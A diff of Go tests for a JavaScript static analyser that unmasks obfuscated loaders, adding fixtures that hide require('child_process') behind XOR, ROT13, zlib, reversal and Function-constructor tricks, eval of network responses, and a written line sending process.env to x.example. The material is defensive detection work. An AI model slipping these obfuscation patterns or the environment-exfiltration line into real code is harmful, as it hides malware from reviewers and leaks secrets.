@@ -1,6 +1,8 @@
 package jsast
 
 import (
+	"bytes"
+	"compress/zlib"
 	"encoding/base64"
 	"slices"
 	"strings"
@@ -64,6 +66,24 @@ func TestFolding(t *testing.T) {
 		{"map_shifted", `require([100,105,106,109,101,96,113,115,112,100,102,116,116].map(function (c) { return String.fromCharCode(c - 1) }).join(''))`, "child_process"},
 		{"map_reference", `require([99,104,105,108,100,95,112,114,111,99,101,115,115].map(String.fromCharCode).join(''))`, "child_process"},
 		{"map_pieces", `require(['chi','ld_','pro','cess'].map(p => p).join(''))`, "child_process"},
+		// the file's own decoders: arrow helpers, XOR, shifts, ROT13
+		{"arrow_helper_xor", `const K = 42; const d = a => a.map(c => String.fromCharCode(c ^ K)).join("");
+require(d([73, 66, 67, 70, 78, 117, 90, 88, 69, 73, 79, 89, 89]))`, "child_process"},
+		{"function_expr_helper", `const d = function (s) { return s.split("").reverse().join("") }; require(d("ssecorp_dlihc"))`, "child_process"},
+		{"caesar_array_from", `const un = s => Array.from(s).map(c => String.fromCharCode(c.charCodeAt(0) - 1)).join(""); require(un("dijme` + "`" + `qspdftt"))`, "child_process"},
+		{"spread_chars", `require([..."dijme` + "`" + `qspdftt"].map(c => String.fromCharCode(c.codePointAt(0) - 1)).join(""))`, "child_process"},
+		{"rot13", `const rot = s => s.replace(/[a-z]/gi, ch => {
+  const base = ch <= "Z" ? 65 : 97;
+  return String.fromCharCode(((ch.charCodeAt(0) - base + 13) % 26) + base);
+});
+require(rot("puvyq_cebprff"))`, "child_process"},
+		{"regexp_replace", `require("c-h-i-l-d_process".replace(/-/g, ""))`, "child_process"},
+		{"text_decoder", `const td = new TextDecoder(); require(td.decode(new Uint8Array([99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115])))`, "child_process"},
+		{"zlib_inflate", `const zlib = require("zlib"); require(zlib.inflateSync(Buffer.from("eJxLzsjMSYkvKMpPTi0uBgAlJgVj", "base64")).toString())`, "child_process"},
+		// a string or array built piece by piece
+		{"plus_assign", `let c = ""; c += "child_"; c += "process"; require(c)`, "child_process"},
+		{"push_join", `const p = []; p.push("child"); p.push("_", "process"); require(p.join(""))`, "child_process"},
+		{"numbers_then_text", `require((1 + 2) + "x" === "3x" ? "child_process" : "fs")`, "child_process"},
 	}
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
@@ -73,6 +93,47 @@ func TestFolding(t *testing.T) {
 			}
 		})
 	}
+}
+
+func TestFoldingLimits(t *testing.T) {
+	for name, src := range map[string]string{
+		// a helper defined twice, or reassigned, is not known
+		"redefined":  `var d = s => s.split("").reverse().join(""); d = s => s; require(d("ssecorp_dlihc"))`,
+		"two_bodies": `let d = s => s.split("").reverse().join(""); if (x) { d = y } require(d("ssecorp_dlihc"))`,
+		// a callback with statements other than declarations
+		"side_effects": `require("abc".replace(/b/g, m => { log(m); return m }))`,
+		// replacement patterns are not interpreted
+		"dollar": `require("child_process".replace(/(child)/, "$1"))`,
+		// a regexp Go's engine cannot read
+		"backreference": `require("child_process".replace(/(c)\1/g, ""))`,
+	} {
+		f := Analyze("x.js", []byte(src), DefaultLimits())
+		for _, im := range f.Imports {
+			if im.Module != "" {
+				t.Errorf("%s: folded to %q", name, im.Module)
+			}
+		}
+	}
+	// a zlib bomb folds to nothing, within the fold budget
+	f := Analyze("x.js", []byte(`require(require("zlib").inflateSync(Buffer.from("`+zlibBomb(t)+`", "base64")).toString())`), DefaultLimits())
+	for _, im := range f.Imports {
+		if im.Module != "" && im.Module != "zlib" {
+			t.Errorf("bomb folded to %d bytes", len(im.Module))
+		}
+	}
+}
+
+// zlibBomb is 8 MiB of zeros, deflated and base64-encoded.
+func zlibBomb(t *testing.T) string {
+	var buf bytes.Buffer
+	zw := zlib.NewWriter(&buf)
+	if _, err := zw.Write(make([]byte, 8<<20)); err != nil {
+		t.Fatal(err)
+	}
+	if err := zw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return base64.StdEncoding.EncodeToString(buf.Bytes())
 }
 
 func TestCallsAndEnv(t *testing.T) {
@@ -666,6 +727,10 @@ func TestHiddenLoaders(t *testing.T) {
 		{"function literal constructor", `(function () {}).constructor("return 1")()`, "Function"},
 		{"literal method constructor", `[]["filter"]["constructor"]("return 1")()`, "Function"},
 		{"getPrototypeOf", `Object.getPrototypeOf(async function () {}).constructor("return 1")`, "Function"},
+		// a module picked by a condition, a fallback or a function run on the spot
+		{"ternary binding", `const b = process._linkedBinding ? process._linkedBinding("spawn_sync") : process.binding("spawn_sync"); b.spawn({file: "/bin/sh"})`, "child_process.spawn"},
+		{"fallback", `const cp = globalThis.cp || require("child_process"); cp.execSync("id")`, "child_process.execSync"},
+		{"iife try", `const cp = (() => { try { return require("child_process") } catch (e) { return null } })(); cp.exec("id")`, "child_process.exec"},
 	}
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
@@ -758,6 +823,30 @@ let local = ""; process.stdin.on("data", c => local += c); eval(local);`
 			t.Errorf("%s: NetArg %q, want %q (all %v)", k, got[k], v, got)
 		}
 	}
+	// a response returned by one of the file's functions: a call of it
+	// is network data, a call of a function returning anything else not
+	src = `async function rpc(m) {
+  const r = await fetch(RPC, { method: "POST", body: m });
+  return (await r.json()).result;
+}
+const memo = async () => { const res = await fetch(u); return res.text() };
+function local() { return [1, 2].map(x => { return x }) }
+(async () => {
+  const sigs = await rpc("getSignaturesForAddress");
+  eval(Buffer.from(sigs[0].memo, "base64").toString());
+  eval(await memo());
+  eval(local());
+})();`
+	f = Analyze("x.js", []byte(src), DefaultLimits())
+	var nets []string
+	for _, c := range f.Calls {
+		if c.Callee == "eval" {
+			nets = append(nets, c.NetArg)
+		}
+	}
+	if !slices.Equal(nets, []string{"sigs", "memo", ""}) {
+		t.Errorf("eval NetArgs %q, want sigs, memo and none", nets)
+	}
 }
 
 func TestPathJoin(t *testing.T) {
@@ -784,9 +873,10 @@ func TestIndirectCalls(t *testing.T) {
 cp.execSync.call(cp, "id -u");
 cp.exec.apply(null, ["uname -a"]);
 Reflect.apply(cp.spawn, undefined, ["sh", ["-c", "true"]]);
+Reflect.construct(Function, ["c", "return c"]);
 Object.prototype.hasOwnProperty.call(o, "k");`
 	f := Analyze("x.js", []byte(src), DefaultLimits())
-	for callee, arg := range map[string]string{"child_process.execSync": "id -u", "child_process.exec": "uname -a", "child_process.spawn": "sh"} {
+	for callee, arg := range map[string]string{"child_process.execSync": "id -u", "child_process.exec": "uname -a", "child_process.spawn": "sh", "Function": "c"} {
 		c := hasCall(f, callee)
 		if c == nil || len(c.Args) == 0 || c.Args[0].Value != arg {
 			t.Errorf("%s: %+v", callee, c)
@@ -800,6 +890,17 @@ func TestCodeStringsAnalysed(t *testing.T) {
 		`setTimeout("require('child_process').execSync('id')", 10)`,
 		`new Function("c", "return require('child_process').execSync(c)")("id")`,
 		`global["ev" + "al"]("require('child_process').execSync('id')")`,
+		`Reflect.construct(Function, ["require", "require('child_process').execSync('id')"])(require)`,
+		// compileFunction, and require handed to the function under another name
+		`require("vm").compileFunction("require('child_process').execSync('id')", ["require"])(require)`,
+		`new Function("r", "r('child_process').execSync('id')")(require)`,
+		`setTimeout(Function("r", "r('child_process').execSync('id')"), 10, require)`,
+		`process.nextTick(Function("a, r", "r('child_process').execSync('id')"), 1, require)`,
+		// code a file keeps in its own comment, read back through __filename
+		"/* ~~require('child_process').execSync('id')~~ */\neval(require('fs').readFileSync(__filename, 'utf8').split('~~')[1])",
+		// a global found by scanning its names, handed a string of code
+		`const k = Object.getOwnPropertyNames(globalThis).find(n => n.length === 4 && n[0] === "e");
+globalThis[k]("require('child_process').execSync('id')")`,
 	} {
 		f := Analyze("x.js", []byte(src), DefaultLimits())
 		if !hasImport(f, "child_process") || hasCall(f, "child_process.execSync") == nil {
@@ -821,6 +922,52 @@ func TestCodeStringsAnalysed(t *testing.T) {
 	if !hasImport(f, "@x/node-only") || decoded["@x/node-only"] || !hasImport(f, "@y/m") || !decoded["@y/m"] {
 		t.Errorf("imports %+v, decoded %v", f.Imports, decoded)
 	}
+}
+
+func TestFoldingAppendsLimits(t *testing.T) {
+	for name, src := range map[string]string{
+		// a piece that does not fold, a number, an array passed on
+		"unknown_piece": `let c = "child_"; c += x; require(c)`,
+		"rotated_array": `const a = ["process", "child_"]; a.push(a.shift()); require(a.join(""))`,
+		// a parameter other than require keeps its meaning
+		"other_param": `new Function("r", "r('child_process')")(load)`,
+	} {
+		f := Analyze("x.js", []byte(src), DefaultLimits())
+		if hasImport(f, "child_process") {
+			t.Errorf("%s: folded to child_process: %+v", name, f.Imports)
+		}
+	}
+}
+
+func TestWrittenCodeAnalysed(t *testing.T) {
+	src := `const fs = require("fs");
+fs.writeFileSync(p, "require('https').get('https://x.example/?e=' + JSON.stringify(process.env))");
+fs.promises.writeFile(q, "module.exports = { answer: 42 }");
+fs.writeFileSync(r, "<html><body onload=\"go()\"></body></html>");`
+	f := Analyze("x.js", []byte(src), DefaultLimits())
+	if im := findImport(f, "https"); im == nil || im.Computed {
+		t.Errorf("written module's import: %+v (computed must be false: written code hides nothing)", im)
+	}
+	if c := hasCall(f, "https.get"); c == nil {
+		t.Errorf("written module's call not seen: %+v", f.Calls)
+	}
+	if hasCall(f, "go") != nil {
+		t.Errorf("markup analysed as code")
+	}
+	// a callback's name is not a globalThis lookup: no eval
+	f = Analyze("x.js", []byte(`window[cb]({"data": 1}); window[name]("plain words here")`), DefaultLimits())
+	if hasCall(f, "eval") != nil {
+		t.Errorf("JSONP-style call taken for eval: %+v", f.Calls)
+	}
+}
+
+func findImport(f *Facts, m string) *Import {
+	for i := range f.Imports {
+		if f.Imports[i].Module == m {
+			return &f.Imports[i]
+		}
+	}
+	return nil
 }
 
 func TestPayloadBudget(t *testing.T) {
